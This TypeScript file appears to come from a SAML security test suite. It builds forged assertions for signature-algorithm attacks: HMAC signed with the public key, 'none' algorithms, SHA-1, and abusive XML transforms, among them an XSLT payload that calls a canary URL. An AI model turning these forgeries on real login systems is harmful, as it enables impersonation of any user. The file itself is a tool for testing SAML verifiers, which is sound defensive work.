import { X509Certificate } from 'node:crypto';
import { assertionXml } from '../../saml/response.ts';
import { digestAlgorithms, transforms } from '../../saml/vocabulary.ts';
import { base64Of } from '../../seed/saml-key.ts';
import { type Attack, played, type Text, type Variant } from '../attack.ts';
import type { Forge } from '../forge/forge.ts';
import { forgedPerson } from '../forge/people.ts';
import { afterIssuer } from '../forge/pieces.ts';
import {
  canonical,
  digestOf,
  macSignature,
  type RawReference,
  rawSignature,
  signatureOf,
  signedInfo,
} from '../forge/raw-signature.ts';
import { changed, loose } from './deliver.ts';

type Facts = Pick<Attack, 'id' | 'title' | 'harm' | 'severity'> &
  Partial<Attack> & { variants: (forge: Forge) => readonly Variant[] };

function attack({ variants, ...own }: Facts): Attack {
  return {
    group: 'algorithm',
    references: [],
    requirements: ['A3.10.02', 'A3.5.02', 'A3.6.02'],
    bad: 'login',
    play: played(variants),
    ...own,
  };
}

const dsigMore = 'http://www.w3.org/2001/04/xmldsig-more#';

/** A forged assertion with a signature that is made of its reference. */
const forgedWith = (
  forge: Forge,
  name: Text,
  sign: (reference: RawReference, forged: string) => string,
): Variant[] =>
  loose(forge, name, (login) => {
    const assertion = forge.assertionFor(login, forgedPerson);
    const forged = assertionXml(assertion);
    const reference = { uri: `#${assertion.id}`, digest: digestOf(canonical(forged)) };
    return [afterIssuer(forged, sign(reference, forged))];
  });

const words = (de: string, en = de): Text => ({ de, en });

/** Secrets that are none: forms in which libraries hold a public key. */
function publicSecrets(certificate: string): readonly (readonly [Text, string])[] {
  const key = new X509Certificate(certificate).publicKey;
  return [
    [words('Zertifikat als Geheimnis', 'certificate as secret'), certificate],
    [words('Zertifikat ohne Rahmen', 'certificate without its frame'), base64Of(certificate)],
    [words('öffentlicher Schlüssel', 'public key'), String(key.export({ type: 'spki', format: 'pem' }))],
    [words('leeres Geheimnis', 'empty secret'), ''],
  ];
}

const weak = {
  de: 'Die Prüfung rechnet mit etwas Öffentlichem oder gar nicht: jeder meldet sich als beliebige Person an.',
  en: 'The check uses something public, or nothing at all: anybody logs in as any person.',
};

/** Signatures of the provider by rules that are not allowed any more, and such by no rule. */
export const algorithmAttacks: readonly Attack[] = [
  attack({
    id: 'hmac-confusion',
    severity: 'critical',
    title: {
      de: 'HMAC mit dem öffentlichen Schlüssel als Geheimnis',
      en: 'HMAC with the public key as secret',
    },
    harm: weak,
    references: ['CVE-2024-32962'],
    variants: (forge) => {
      const { certificate } = forge.key;
      return publicSecrets(certificate).flatMap(([name, secret]) =>
        forgedWith(forge, name, (reference) =>
          macSignature(
            { references: [reference], method: `${dsigMore}hmac-sha256` },
            secret,
            'sha256',
            certificate,
          ),
        ),
      );
    },
  }),
  attack({
    id: 'algorithm-none',
    severity: 'critical',
    title: { de: 'Kein oder unbekanntes Signaturverfahren', en: 'No signature algorithm, or an unknown one' },
    harm: weak,
    variants: (forge) =>
      ['none', '', 'urn:angriff:keines'].flatMap((method) =>
        forgedWith(forge, words(`„${method}“`, `"${method}"`), (reference) =>
          signatureOf({
            infos: [signedInfo({ references: [reference], method })],
            value: 'AAAA',
            certificate: forge.key.certificate,
          }),
        ),
      ),
  }),
  attack({
    id: 'sha1-signature',
    severity: 'serious',
    title: { de: 'Signatur mit SHA-1', en: 'Signature with SHA-1' },
    harm: {
      de: 'Zu SHA-1 lassen sich zwei Texte mit gleichem Prüfwert erzeugen; die Signatur des einen gilt dann auch für den anderen.',
      en: 'Two texts with the same SHA-1 digest can be made; the signature of one then counts for the other.',
    },
    references: ['BSI TR-02102-1', 'BSI TR-03116-4'],
    variants: (forge) => [
      changed(forge, words('Antwort und Assertion', 'response and assertion'), () => ({
        profile: { signature: 'rsa-sha1' },
      })),
    ],
  }),
  attack({
    id: 'sha1-digest',
    severity: 'serious',
    title: { de: 'Prüfwert mit SHA-1', en: 'Digest with SHA-1' },
    harm: {
      de: 'Wie bei der Signatur mit SHA-1: ein zweiter Inhalt mit demselben Prüfwert gilt als signiert.',
      en: 'As with a signature with SHA-1: a second content with the same digest counts as signed.',
    },
    references: ['BSI TR-02102-1', 'BSI TR-03116-4'],
    variants: (forge) => [
      changed(forge, words('Prüfwert', 'digest'), () =>
        signedRaw(forge, { digestAlgorithm: digestAlgorithms.sha1 }),
      ),
    ],
  }),
  attack({
    id: 'transform-abuse',
    severity: 'serious',
    title: { de: 'Unerlaubte Umformungen vor der Prüfung', en: 'Transforms that are not allowed' },
    harm: {
      de: 'Die Nachricht bestimmt, was geprüft wird; XSLT führt Anweisungen des Absenders in der Anwendung aus.',
      en: 'The message says what is verified; XSLT runs instructions of the sender inside the application.',
    },
    references: ['XML Signature Best Practices (W3C 2013)', 'CVE-2022-34169'],
    requirements: ['A3.10.02', 'A3.12.01', 'A3.12.03'],
    variants: (forge) => [
      ...forgedWith(forge, words('XSLT'), (reference) =>
        signedBy(forge, { ...reference, transforms: [{ xml: xslt(forge.canary) }] }),
      ),
      ...forgedWith(forge, words('XPath, das nichts auswählt', 'XPath that selects nothing'), (reference) =>
        signedBy(forge, {
          ...reference,
          digest: digestOf(''),
          transforms: [{ xml: nothing }, transforms.exclusive],
        }),
      ),
      ...forgedWith(forge, words('Base64'), (reference) =>
        signedBy(forge, {
          ...reference,
          digest: digestOf(''),
          transforms: ['http://www.w3.org/2000/09/xmldsig#base64'],
        }),
      ),
    ],
  }),
  attack({
    id: 'many-transforms',
    severity: 'hardening',
    title: { de: 'Fünf Umformungen statt zwei', en: 'Five transforms instead of two' },
    harm: {
      de: 'Jede Umformung kostet Rechenzeit, bevor die Signatur geprüft ist: wenige Nachrichten legen die Anmeldung lahm.',
      en: 'Every transform costs time before the signature is verified: few messages paralyse the login.',
    },
    references: ['SAML Core 2.0, 5.4.4'],
    requirements: ['A3.10.02', 'A3.12.01'],
    variants: (forge) => [
      changed(forge, words('gültig signiert', 'validly signed'), () =>
        signedRaw(forge, {
          transforms: [
            transforms.enveloped,
            transforms.exclusive,
            transforms.exclusive,
            transforms.exclusive,
            transforms.exclusive,
          ],
        }),
      ),
    ],
  }),
];

/** Signed by the provider in a way that the usual primitives do not offer: at the response or the assertion, as agreed. */
function signedRaw(forge: Forge, reference: Partial<RawReference>) {
  const { key } = forge;
  const algorithm = forge.profile.signature;
  const sign = (xml: string): string => {
    const id = / ID="([^"]*)"/.exec(xml)?.[1] ?? '';
    const sha1 = reference.digestAlgorithm === digestAlgorithms.sha1;
    const digest = digestOf(canonical(xml), sha1 ? 'sha1' : 'sha256');
    return afterIssuer(
      xml,
      rawSignature({ references: [{ uri: `#${id}`, digest, ...reference }] }, { key, algorithm }),
    );
  };
  const isSigned = forge.profile.sign === 'both' || forge.profile.sign === 'assertion';
  return {
    profile: { sign: 'none' },
    ...(isSigned ? { edit: sign } : { editResponse: sign }),
  } as const;
}

const signedBy = (forge: Forge, reference: RawReference): string =>
  rawSignature({ references: [reference] }, { key: forge.key, algorithm: forge.profile.signature });

const nothing =
  '<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath>self::node()[false()]</ds:XPath></ds:Transform>';

const xslt = (canary: string): string =>
  `<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/"><xsl:value-of select="document('${canary}/xslt')"></xsl:value-of></xsl:template></xsl:stylesheet></ds:Transform>`;
